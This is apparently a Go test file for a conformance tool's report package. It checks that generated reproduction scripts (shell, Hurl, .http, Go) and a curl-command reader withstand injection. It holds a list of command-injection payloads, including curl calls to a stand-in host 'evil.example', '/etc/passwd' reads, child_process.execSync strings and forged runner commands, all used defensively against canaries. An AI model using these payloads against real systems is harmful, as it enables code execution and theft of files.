package report

import (
	"encoding/json"
	"errors"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/socialfeed/conform/conformance/result"
	"github.com/socialfeed/conform/conformance/rules"
	"mvdan.cc/sh/v3/syntax"
)

// attacks are texts that would create the file canary or call the host, where some program took them for
// more than texts.
func attacks(host string) map[string]string {
	touch := "touch canary; curl http://" + host + "/;"
	return map[string]string{
		"a substitution":          "$(" + touch + ")",
		"backticks":               "`" + touch + "`",
		"a semicolon":             "x;" + touch + "#",
		"quotes":                  `'"; ` + touch + ` "'`,
		"a line break":            "x\n" + touch + "\n",
		"carriage return":         "x\r\n" + touch + "\r\n",
		"a pipe":                  "| sh -c '" + touch + "' &",
		"globs":                   "a * b ? [a-z]*",
		"history and equals":      "!! !$ =ls =(touch canary) ~root",
		"an option":               "-K/dev/stdin",
		"a configuration":         "--config=/dev/stdin",
		"an output":               "-ocanary",
		"a file":                  "@/etc/passwd",
		"another host":            "@" + host + "/x",
		"another address":         "http://" + host + "/",
		"credentials":             "http://127.0.0.1@" + host + "/",
		"a fragment":              "#@" + host,
		"slashes":                 "//" + host + "/x",
		"JavaScript in braces":    "{{require('child_process').execSync('" + touch + "')}}",
		"JavaScript in a script":  "%}\n> {% require('child_process').execSync('" + touch + "') %}",
		"half a brace":            "{",
		"an import":               "@import ./other.http",
		"another request":         "x\n### 2\nGET http://" + host + "/\n",
		"a file as a body":        "< /etc/passwd",
		"Go":                      "`+func() string { os.Create(\"canary\"); return \"\" }()+`",
		"Go in a comment":         "x\n*/ func init() { os.Create(\"canary\") } /*",
		"a template of Hurl":      "{{newUuid}}` \nGET http://" + host + "\n",
		"awk":                     "\" | getline; system(\"touch canary\") #",
		"jq":                      "\") | input_filename | @sh \"",
		"printf":                  "%s%n%d\\0142\\c",
		"directions":              "\u202e\u2066\u200b\ufeff",
		"a name of a variable":    "PATH",
		"the name of the target":  "BASE_URL",
		"a NUL":                   "x\x00" + touch,
		"what is no UTF-8":        "\xff\xfe$(" + touch + ")",
		"the command of a runner": "\n::set-env name=PATH::x\n##[command]x",
	}
}

// attacked is a story of each kind of step, in which one text is an attack where the report says so.
func attackedReport() *result.Report {
	r := newReport(result.NonConformant, []result.Rule{newRule("users.get.other", rules.Must, broken(rules.GetUser, result.Fail, "404 Not Found", 500, "{}"))})
	r.Target.BaseURL, r.Target.Trust = "http://127.0.0.1:1", []string{"--ca-cert", "authority.pem"}
	check := &r.Rules[0].Checks[0]
	plain := plainFields()
	for i := range plain {
		if plain[i].Name == "User-Agent" {
			plain[i].Value = literal("conform/dev") // which every form can send
		}
	}
	fields := append(slices.Clone(plain), result.Field{Name: "Content-Type", Value: literal("application/json")})
	check.Expected, check.Actual = "404 Not Found", "500 with {}"
	check.Reproduction = &result.Reproduction{
		Words: []result.Word{{Var: "WORD_1", Length: 9}, {Var: "PASSWORD_1", Length: 64, Hex: true}},
		Steps: []result.Step{
			{Method: http.MethodPost, Path: literal("/0.2/users?withLogin=true"), User: []result.Piece{{Var: "APP_TOKEN"}, {Text: ":"}}, Headers: fields,
				Body:     []result.Piece{{Text: `{"user_name":"a`}, {Var: "WORD_1"}, {Text: `","password":"`}, {Var: "PASSWORD_1"}, {Text: `"}`}},
				Captures: []result.Capture{{Var: "SESSION_TOKEN_1", Field: "session_token"}, {Var: "USER_ID_1", Field: "id"}}},
			{Method: http.MethodPost, Path: literal("/0.2/user/connections"), User: []result.Piece{{Var: "APP_TOKEN"}, {Text: ":"}, {Var: "SESSION_TOKEN_1"}}, Headers: fields,
				Body: []result.Piece{{Text: `{"user_to_id":"`}, {Var: "USER_ID_1"}, {Text: `"}`}}},
			{Method: http.MethodGet, Path: []result.Piece{{Text: "/0.2/users/"}, {Var: "USER_ID_1"}}, User: []result.Piece{{Var: "APP_TOKEN"}, {Text: ":"}, {Var: "SESSION_TOKEN_1"}}, Headers: plain},
		},
		Answer:  result.Answer{Status: 500, Headers: []result.Field{{Name: "Content-Type", Value: literal("application/json")}}, Body: literal("{}")},
		Passing: []string{"404"}, Since: "2026-01-02T03:04:05Z",
	}
	return r
}

// texts are the places of the texts of a value, each of which can be set.
func texts(v reflect.Value, at string) map[string]reflect.Value {
	all := map[string]reflect.Value{}
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			maps.Copy(all, texts(v.Elem(), at))
		}
	case reflect.Struct:
		for i := range v.NumField() {
			maps.Copy(all, texts(v.Field(i), at+"."+v.Type().Field(i).Name))
		}
	case reflect.Slice:
		for i := range v.Len() {
			maps.Copy(all, texts(v.Index(i), fmt.Sprint(at, "[", i, "]")))
		}
	case reflect.String:
		if v.CanSet() {
			all[at] = v
		}
	}
	return all
}

// shareOfAttacks is that one in so many attacks at each place is tried, without ATTACKS=all.
const shareOfAttacks = 24

// TestNoTextOfAReportIsSyntax puts each attack into each text of a report, one at a time, and writes the
// program in each form. It is refused, or it does what it did without: the same calls in the same order.
func TestNoTextOfAReportIsSyntax(t *testing.T) {
	t.Parallel()
	const host = "evil.example:9977"
	written := map[Form]int{}
	for form := range writersOfForms() {
		for _, passing := range [][]string{{"404"}, nil} {
			base := attackedReport()
			base.Rules[0].Checks[0].Reproduction.Passing = passing
			want, err := programOf(form, base)
			if err != nil {
				if form == Hurl && passing == nil {
					continue
				}
				t.Fatalf("%s: %v", form, err)
			}
			for i, name := range slices.Sorted(maps.Keys(attacks(host))) {
				attack := attacks(host)[name]
				for k, at := range slices.Sorted(maps.Keys(texts(reflect.ValueOf(base), "report"))) {
					if os.Getenv("ATTACKS") != "all" && (i+k)%shareOfAttacks != 0 {
						continue
					}
					with := func(text string) (string, error) {
						forged := attackedReport()
						forged.Rules[0].Checks[0].Reproduction.Passing = slices.Clone(passing)
						texts(reflect.ValueOf(forged), "report")[at].SetString(text)
						return programOf(form, forged)
					}
					got, err := with(attack)
					if err != nil {
						continue
					}
					written[form]++
					harmless, err := with("harmless") // which may tell another story: an answer without a status, say
					if err != nil {
						harmless = want
					}
					if shape, base := shapeOf(t, form, got), shapeOf(t, form, harmless); shape != base {
						t.Errorf("%s with %s at %s is another program: %s\n%s", form, name, at, firstDifference(shape, base), got)
						return
					}
				}
			}
		}
	}
	for form := range writersOfForms() {
		if written[form] < 15 {
			t.Errorf("%s was written %d times alone", form, written[form])
		}
	}
}

// firstDifference is the first line in which two texts differ, in both.
func firstDifference(a, b string) string {
	first, second := strings.Split(a, "\n"), strings.Split(b, "\n")
	for i := range min(len(first), len(second)) {
		if first[i] != second[i] {
			return fmt.Sprintf("%q, not %q", first[i], second[i])
		}
	}
	return fmt.Sprint(len(first), " lines, not ", len(second))
}

func writersOfForms() map[Form]bool {
	return map[Form]bool{Shell: true, Hurl: true, HTTPFile: true, GoTest: true}
}

func programOf(form Form, r *result.Report) (string, error) {
	var b strings.Builder
	err := Reproduce(&b, form, r, r.Rules[0], r.Rules[0].Checks[0])
	return b.String(), err
}

// stringLiteral matches a quoted string of JavaScript.
var stringLiteral = regexp.MustCompile(`"(?:[^"\\]|\\.)*"`)

// ofStory matches the variables that requests take.
var ofStory = regexp.MustCompile(`^(APP_TOKEN|(ID|TOKEN|WORD|PASSWORD)_\d+.*)$`)

// shapeOf is what a program does, without its texts.
func shapeOf(t *testing.T, form Form, text string) string {
	t.Helper()
	var shape strings.Builder
	switch form {
	case Shell:
		file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(text), "script")
		if err != nil {
			t.Fatalf("%v\n%s", err, text)
		}
		syntax.Walk(file, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.CallExpr:
				for _, a := range n.Assigns {
					shape.WriteString(a.Name.Value + "= ")
				}
				if len(n.Args) > 0 && n.Args[0].Lit() != "printf" && n.Args[0].Lit() != "" {
					shape.WriteString(n.Args[0].Lit() + "\n")
				}
			case *syntax.Redirect:
				shape.WriteString(n.Op.String())
			case *syntax.ParamExp:
				if !ofStory.MatchString(n.Param.Value) { // which stand before a pipeline or in it
					shape.WriteString("$" + n.Param.Value)
				}
			}
			return true
		})
		shape := regexp.MustCompile(`(?m)^send\n(send\n)*`).ReplaceAllString(shape.String(), "send\n")
		return shape
	case GoTest:
		file, err := parser.ParseFile(token.NewFileSet(), "test.go", text, 0)
		if err != nil {
			t.Fatalf("%v\n%s", err, text)
		}
		ast.Inspect(file, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.CallExpr:
				shape.WriteString(fmt.Sprintf("%v\n", nameOf(n.Fun)))
			case *ast.FuncDecl:
				if !strings.HasPrefix(n.Name.Name, "Test") {
					shape.WriteString("func " + n.Name.Name + "\n")
				}
			case *ast.Comment:
				shape.WriteString("comment\n")
			}
			return true
		})
	default:
		for line := range strings.Lines(text) {
			first, _, _ := strings.Cut(strings.TrimRight(line, "\n"), " ")
			switch {
			case strings.HasPrefix(line, "#"):
				if strings.HasPrefix(strings.TrimLeft(line, "# "), "@") {
					shape.WriteString("a command ")
				}
				first = strings.Repeat("#", len(first)-len(strings.TrimLeft(first, "#")))
			case regexp.MustCompile(`^(GET|HEAD|POST|PUT|PATCH|DELETE|OPTIONS|TRACE)$`).MatchString(first):
				if !strings.HasPrefix(line, first+" {{base_url}}/") {
					shape.WriteString("another host ")
				}
				first = "request"
			case strings.HasPrefix(line, "client."):
				first, _, _ = strings.Cut(stringLiteral.ReplaceAllString(line, `""`), " ")
			case strings.HasPrefix(line, "{{"):
				first = "credentials"
			case strings.HasPrefix(line, "{") || strings.HasPrefix(line, "`") || strings.HasPrefix(line, "\"") || regexp.MustCompile(`^[0-9a-z$]`).MatchString(line) && form == HTTPFile && !strings.HasPrefix(line, "c"):
				first = "body"
			case regexp.MustCompile(`^[A-Za-z0-9-]+:$`).MatchString(first):
				first = "field"
			}
			shape.WriteString(first + "\n")
		}
	}
	return shape.String()
}

func nameOf(x ast.Expr) string {
	switch x := x.(type) {
	case *ast.Ident:
		return x.Name
	case *ast.SelectorExpr:
		return nameOf(x.X) + "." + x.Sel.Name
	}
	return "an expression"
}

// canaries are a folder in which nothing may appear, and a host that nothing may call.
func canaries(t *testing.T) (folder, host string, called *atomic.Int64) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	called = &atomic.Int64{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			called.Add(1)
			conn.Close()
		}
	}()
	t.Cleanup(func() { listener.Close(); <-done })
	return t.TempDir(), listener.Addr().String(), called
}

// hostileTarget answers with an attack as every id and token. With the fault it has 500 where 404 is due.
func hostileTarget(t *testing.T, attack string, fault bool) *httptest.Server {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case r.Method == http.MethodPost:
			w.WriteHeader(http.StatusCreated)
			_ = json.NewEncoder(w).Encode(map[string]string{"id": attack, "session_token": attack, "user_name": attack})
		case r.Method == http.MethodDelete:
			w.WriteHeader(http.StatusNoContent)
		default:
			id := strings.TrimPrefix(r.URL.Path, "/0.2/users/")
			_, session, _ := r.BasicAuth()
			sent := string([]rune(attack))     // as JSON has it
			if id != sent || session != sent { // not what was given: a lawful 403
				t.Errorf("it asks for %q as %q, not %q", id, session, sent)
			}
			w.WriteHeader(map[bool]int{true: 500, false: 404}[fault])
			_, _ = fmt.Fprint(w, "{}")
		}
	}))
	t.Cleanup(server.Close)
	return server
}

// TestScriptsOfAHostileTargetTellTheFault runs the script for sh at a target that answers with attacks. Nothing
// of them runs, no other host is called, and the exit code tells the fault from none. All attacks stand in one
// answer; ATTACKS=all tries each by itself, too.
func TestScriptsOfAHostileTargetTellTheFault(t *testing.T) {
	needs(t, "sh", "curl", "jq", "awk")
	folder, host, called := canaries(t)
	all := attacks(host)
	delete(all, "a NUL") // no shell holds one: the script refuses it
	together := strings.Join(slices.Sorted(maps.Values(all)), " ")
	tried := map[string]string{"all together": strings.Trim(together, "\n")}
	if os.Getenv("ATTACKS") == "all" {
		maps.Copy(tried, all)
	}
	for name, attack := range tried {
		t.Run(name, func(t *testing.T) {
			for _, fault := range []bool{true, false} {
				r := attackedReport()
				r.Target.BaseURL, r.Target.Trust = hostileTarget(t, attack, fault).URL, nil
				script, err := programOf(Shell, r)
				if err != nil {
					t.Fatal(err)
				}
				run := exec.CommandContext(t.Context(), "sh")
				run.Stdin, run.Dir = strings.NewReader(script), folder
				run.Env = append(os.Environ(), "APP_TOKEN=first", "TMPDIR="+t.TempDir(), "no_proxy=*")
				out, err := run.CombinedOutput()
				if err != nil && !errors.As(err, new(*exec.ExitError)) {
					t.Fatal(err)
				}
				if code, want := run.ProcessState.ExitCode(), map[bool]int{true: 1, false: 0}[fault]; code != want {
					t.Errorf("it ends with %d, want %d, and says %s", code, want, out)
				}
			}
			untouched(t, folder, called)
		})
	}
}

// TestEditorsRunNothingOfAHostileTarget sends the requests of a .http file by httpYac, at a target whose
// token is JavaScript in braces. HTTPYAC names httpYac's program.
func TestEditorsRunNothingOfAHostileTarget(t *testing.T) {
	program := os.Getenv("HTTPYAC")
	if program == "" {
		t.Skip("HTTPYAC names no program: npm install httpyac, then HTTPYAC=node_modules/.bin/httpyac")
	}
	folder, host, called := canaries(t)
	for _, name := range []string{"JavaScript in braces", "JavaScript in a script", "another request", "an import", "half a brace"} {
		for given, token := range map[string]string{"hostile": attacks(host)[name], "harmless": "abc"} {
			r := attackedReport()
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				if req.Method == http.MethodGet {
					w.WriteHeader(http.StatusInternalServerError)
				}
				_ = json.NewEncoder(w).Encode(map[string]string{"id": token, "session_token": token})
			}))
			r.Target.BaseURL, r.Target.Trust = server.URL, nil
			text, err := programOf(HTTPFile, r)
			if err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(t.TempDir(), "story.http")
			if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
			run := exec.CommandContext(t.Context(), program, "send", path, "--all", "--var", "app_token=first")
			run.Dir = folder
			out, _ := run.CombinedOutput() // fails where the target has the failure, and where it is hostile
			server.Close()
			if told := strings.Contains(string(out), "expected 404"); given == "harmless" && !told {
				t.Errorf("the failure is not told: %s", out)
			}
		}
		untouched(t, folder, called)
	}
}

func untouched(t *testing.T, folder string, called *atomic.Int64) {
	t.Helper()
	if n := called.Load(); n > 0 {
		t.Errorf("another host was called %d times", n)
	}
	entries, err := os.ReadDir(folder)
	if err != nil || len(entries) > 0 {
		t.Errorf("something ran: %v %v", entries, err)
	}
}

// TestCommandsOfForgedReportsAreLeftOut reads reports whose commands are attacks.
func TestCommandsOfForgedReportsAreLeftOut(t *testing.T) {
	t.Parallel()
	r := attackedReport()
	x := &r.Rules[0].Checks[0].Exchanges[0]
	r.Target.BaseURL = "https://feed.example"
	x.Request.URL = "https://feed.example/0.2/user"
	good := `curl -sS -i -u "$APP_TOKEN:$SESSION_TOKEN" -H 'Accept: a' 'https://feed.example/0.2/user'`
	for curl, kept := range map[string]bool{
		good:                    true,
		good + "; touch canary": false,
		strings.Replace(good, "-i", "-X `id`", 1):                  false,
		strings.Replace(good, "-i", "-X X;touch${IFS}canary;#", 1): false,
		strings.Replace(good, "-i", "-o canary", 1):                false,
		strings.Replace(good, "-i", "-K canary", 1):                false,
		strings.Replace(good, "-i", "-d @/etc/passwd", 1):          false,
		strings.Replace(good, "'Accept: a'", "'@/etc/passwd'", 1):  false,
		strings.Replace(good, "feed.example", "evil.example", 1):   false,
		strings.Replace(good, "//feed", "//feed.example@evil", 1):  false,
		strings.Replace(good, "curl", "sh", 1):                     false,
		"curl -sS\n" + good:                                        false,
	} {
		x.Curl = curl
		back, err := ReadJSON(strings.NewReader(asJSON(t, r)))
		if err != nil {
			t.Fatal(err)
		}
		if got := back.Rules[0].Checks[0].Exchanges[0].Curl; (got == curl) != kept || !kept && got != "" {
			t.Errorf("%s\nis read as %q", curl, got)
		}
	}
}
